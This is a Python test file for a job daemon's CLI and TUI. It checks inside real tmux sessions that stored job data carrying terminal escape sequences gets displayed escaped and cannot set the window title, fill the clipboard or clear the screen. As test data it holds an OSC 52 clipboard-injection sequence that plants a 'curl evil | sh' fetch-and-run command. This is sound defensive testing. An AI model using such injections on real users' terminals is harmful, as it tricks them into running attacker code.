"""Control characters in old data never reach a terminal: a job stored before the string rule (ESC sequences
that set the window title, fill the clipboard through OSC 52 and clear the screen; a lone surrogate) is served
(never a 500), printed escaped by `appliance jobs` and shown escaped by `appliance-tui`, in a real tmux whose
pane title and paste buffers are read afterwards. The same sequences printed raw do change both: the check
can fail."""

from __future__ import annotations

import base64
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from appliance.service.client import Client
from daemon_support import REPO_ROOT

CLIPBOARD = base64.b64encode(b"curl evil | sh").decode()
TITLE = "\x1b]2;PWNED\x07"
STEAL = f"\x1b]52;c;{CLIPBOARD}\x07"
CLEAR = "\x1b[2J\x1b[H"
EVIL = TITLE + STEAL + CLEAR
needs_tmux = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed (apt-get install tmux)")


class Tmux:
    """One tmux server of its own, 120x40, with OSC 52 accepted into its paste buffers."""

    def __init__(self, name: str, command: str, env: dict) -> None:
        self.name = name
        subprocess.run(
            ["tmux", "-L", name, "new-session", "-d", "-s", name, "-x", "120", "-y", "40", command], check=True, env=env
        )
        self.run("set-option", "-g", "set-clipboard", "on")
        self.run("set-option", "-g", "history-limit", "5000")
        self.first_title = self.title()

    def run(self, *args: str) -> str:
        return subprocess.run(["tmux", "-L", self.name, *args], capture_output=True, text=True).stdout

    def title(self) -> str:
        return self.run("display", "-p", "-t", self.name, "#{pane_title}").strip()

    def screen(self) -> str:
        return self.run("capture-pane", "-p", "-S", "-5000", "-t", self.name)

    def keys(self, *keys: str) -> None:
        self.run("send-keys", "-t", self.name, *keys)

    def buffers(self) -> str:
        return self.run("list-buffers")

    def wait_for(self, text: str, seconds: float = 30.0) -> str:
        deadline = time.monotonic() + seconds
        screen = ""
        while time.monotonic() < deadline:
            screen = self.screen()
            if text in screen:
                return screen
            time.sleep(0.2)
        raise AssertionError(f"'{text}' did not appear within {seconds:.0f} s; the pane shows:\n{screen}")

    def close(self) -> None:
        self.run("kill-server")


def plant_old_job(data_dir: Path, job_id: str, name: str, reason: str, spec: dict) -> None:
    """A job row as a daemon before the string rule could have stored it, and its log and samples."""
    now = time.time()
    with sqlite3.connect(data_dir / "appliance.db", timeout=30) as db:
        db.execute(
            "INSERT INTO jobs (id, name, uid, user, spec, state, reason, created, updated, steps_total) "
            "VALUES (?, ?, 0, ?, ?, 'failed', ?, ?, ?, 3)",
            (job_id, name, "eve" + EVIL, json.dumps(spec), reason, now, now),
        )
        db.execute(
            "INSERT INTO events (job_id, time, kind, data) VALUES (?, ?, 'state', ?)",
            (job_id, now, json.dumps({"from": "running", "to": "failed", "reason": reason + "\ud800"})),
        )
    folder = data_dir / "jobs" / job_id
    folder.mkdir(parents=True)
    (folder / "log.txt").write_text(f"loading {EVIL} model\nstep 1 \x1b[31mred\x1b[0m\n")
    sample = {"step": 1, "prompt": "What is 2 * 3?" + EVIL, "completion": "6" + STEAL, "rewards": {"correctness": 1.0}}
    (folder / "samples.jsonl").write_text(json.dumps(sample) + "\n")


def environment() -> dict:
    env = {key: value for key, value in os.environ.items() if key not in ("COLORTERM", "TMUX")}
    return {**env, "TERM": "xterm-256color", "PYTHONPATH": str(REPO_ROOT)}


@needs_tmux
def test_the_checks_see_a_raw_sequence(tmp_path):
    """The control: the same bytes printed raw change the pane title and fill a paste buffer."""
    tmux = Tmux(f"apl-raw-{os.getpid()}", "bash --norc --noprofile", environment())
    try:
        (tmp_path / "evil.txt").write_text(EVIL)
        tmux.keys(f"cat {tmp_path / 'evil.txt'}", "Enter")
        time.sleep(1.0)
        assert tmux.title() == "PWNED" and "curl evil | sh" in tmux.run("show-buffer")
    finally:
        tmux.close()


@needs_tmux
def test_old_data_with_control_characters_is_served_and_shown_escaped(bare_daemon, tmp_path):
    data_dir = bare_daemon.data_dir
    good, evil = "aaaaaaaaaa", "bbbbbbbbbb"
    plant_old_job(data_dir, good, "good-job", "fine", {"name": "good-job", "task": {"dataset": "builtin:multiply"}})
    spec = {"name": "evil" + EVIL, "task": {"system_prompt": "hi\ud800" + EVIL}, "rewards": [{"name": "x\ud800"}]}
    plant_old_job(data_dir, evil, "evil" + EVIL, "crashed: " + EVIL, spec)
    with Client(bare_daemon.socket_path) as client:
        detail = client.job(evil)  # a 500 for ever before: the lone surrogate did not encode
        assert detail.spec["task"]["system_prompt"].startswith("hi\ud800")
        assert {job.id for job in client.jobs()} == {good, evil}
    command = f"{sys.executable} -m appliance jobs"
    socket = f"--socket {bare_daemon.socket_path}"
    tmux = Tmux(f"apl-cli-{os.getpid()}", "bash --norc --noprofile", environment())
    try:
        tmux.keys("echo MARK-BEFORE", "Enter")
        actions = (f"list {socket}", f"show {evil} {socket}", f"logs {evil} {socket}", f"samples {evil} {socket}")
        for number, action in enumerate(actions):
            tmux.keys(f"{command} {action}; echo DONE-{number}-$?", "Enter")
            tmux.wait_for(f"DONE-{number}-0", 60)
        screen = tmux.wait_for("MARK-BEFORE")  # nothing cleared the screen or its history
        assert "\\x1b]2;PWNED\\x07" in screen and "\\x1b]52;c;" in screen and "\\ud800" in screen
        assert tmux.title() == tmux.first_title != "PWNED"
        assert tmux.buffers() == "", f"a paste buffer was set: {tmux.buffers()}"
    finally:
        tmux.close()
    tui = Tmux(
        f"apl-tui-{os.getpid()}", f"{sys.executable} -m tui.app --socket {bare_daemon.socket_path}", environment()
    )
    try:
        tui.wait_for("good-job")  # one bad job never blanks the screen
        time.sleep(1.0)
        assert "PWNED" not in tui.title() and tui.buffers() == "", (tui.title(), tui.buffers())
        tui.wait_for("evil\\x1b]2;PWNE")  # the name, escaped
        tui.keys("Enter")  # the newest job (the evil one) opens: its reason, then its log and config tabs
        tui.wait_for("crashed:")
        for tab in ("4", "5", "2"):
            tui.keys(tab)
            time.sleep(1.5)
        screen = tui.screen()
        assert "Traceback" not in screen and "PWNED" not in tui.title()
        assert tui.buffers() == "", f"a paste buffer was set: {tui.buffers()}"
    finally:
        tui.close()
